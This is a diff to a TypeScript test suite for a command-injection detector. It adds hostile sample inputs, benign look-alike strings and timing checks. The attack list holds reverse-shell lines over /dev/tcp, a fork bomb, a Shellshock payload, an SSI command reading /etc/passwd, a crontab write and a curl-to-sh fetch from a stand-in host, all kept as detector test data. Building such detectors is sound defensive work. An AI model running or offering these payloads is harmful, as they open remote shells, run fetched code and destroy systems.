@@ -42,6 +42,9 @@ const ATTACKS: readonly string[] = [
   'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'exec 5<>/dev/tcp/8.8.8.8/80', 'd=/dev&&(sh)0>$d/tcp/1.2.3.4/777',
   '() { :;}; /bin/bash -c "id"', '<!--#exec cmd="/bin/cat /etc/passwd"-->', ':(){ :|:& };:',
   'cat<<<ifconfig | sh', 'echo dW5hbWUgLWE= | base64 -d | sh',
+  // A leading separator and a bare command as the whole value; capitals after it; cmd.exe variables
+  ';top', '; ;top', ';rmt-tar', ';CHMOD +X EVIL.PHP', '" | type %SystemDrive%\\config.ini | "', '& type %windir%\\win.ini',
+  '>/tmp/curl', '>> /etc/crontab', 'x; curl evil.example/x.sh | sh', 'a; nmap target', '& i^d', 'x`id`s',
   // Mail protocol injection after a line break
   '\r\nMAIL FROM:<a@b.com>', '\r\nRCPT TO:<postmaster@example.com>', '\r\nA001 EXAMINE INBOX',
 ];
@@ -68,6 +71,11 @@ const BENIGN: readonly string[] = [
   'hello [text in brackets]', 'page[1]', 'data[index]', 'take this math expression: 1[a/-1]', '**Bash warning**: careful',
   '$(document).ready(function () { init(); })', 'Size: 8"x11"', "That's two \"O\"s in goose", 'id', 'date', 'sort=name',
   'The `Copy` trait and `Clone`', 'See link(2) and popen(3)', 'if x == 1: return', 'if (a == b) { return }',
+  ';More', 'Hello;More info', 'a; top', ';top of the list', 'WARNING; CHMOD is dangerous', 'type %windir% into the Run box',
+  'Type %SystemDrive%\\Temp in the box', '| Type | %OS% |',
+  'It failed; curl returned an error page', 'We use Kubernetes; docker images are built nightly.',
+  'Build broke; npm registry was down for an hour', 'Returns the result of (e^x - 1), which is close to x',
+  'nodejs için:', "a space-separated list of other elements' `id`s, indicating that", '> quoted text /tmp/x', '>/ home', '>>> /etc is a folder',
   'Go to store.\nAt the store, shop.', 'Hello!\ndata not found.', 'We need the list "ASAP"', 'data:image/png;base64,iVBORw0KGgo=',
 ];
 
@@ -118,7 +126,7 @@ describe('detectCmdi', () => {
     const rep = (s: string): string => s.repeat(Math.ceil(N / s.length)).slice(0, N);
     const inputs = [';', '$(((', "'''", '"', '|', '&', '`', '${', '{', '<', ';a', ';id ', '|id', '/???/', '[a', '\\',
       '^a', '%a', '\n', '$', '$a', '(', '<(', 'cat /etc/passwd ', 'for %a in (', 'if a==b ', '`a', "c'a't ", 'a=b;', '+',
-      '\r\nA1 LIST ', 'f(){ ', '<!--#', 'The quick brown fox; jumps over the lazy dog & cat | more. '];
+      '\r\nA1 LIST ', 'f(){ ', '<!--#', '>/tmp/', 'The quick brown fox; jumps over the lazy dog & cat | more. '];
     for (const s of inputs) {
       const v = rep(s);
       const lower = v.toLowerCase();
@@ -129,6 +137,18 @@ describe('detectCmdi', () => {
         best = Math.min(best, Number(process.hrtime.bigint() - t0) / 1e6);
       }
       assert.ok(best < 25, `${JSON.stringify(s)} x ${N}: ${best.toFixed(1)} ms`);
+    }
+    // Denser shapes, given more room (each reads a command word every few bytes; a quadratic
+    // read would take seconds): a long leading run of separators, then many commands (the run
+    // is read once); a clause of prose after a semicolon every 31 bytes (about 6 ms here).
+    for (const v of [';'.repeat(N / 2) + 'More|'.repeat(N / 10), rep('x; curl returned an error page ')]) {
+      let best = Infinity;
+      for (let r = 0; r < 3; r++) {
+        const t0 = process.hrtime.bigint();
+        detectCmdi(v, v.toLowerCase(), ctx(4));
+        best = Math.min(best, Number(process.hrtime.bigint() - t0) / 1e6);
+      }
+      assert.ok(best < 100, `${JSON.stringify(v.slice(0, 12))}… x ${N}: ${best.toFixed(1)} ms`);
     }
   });
 });
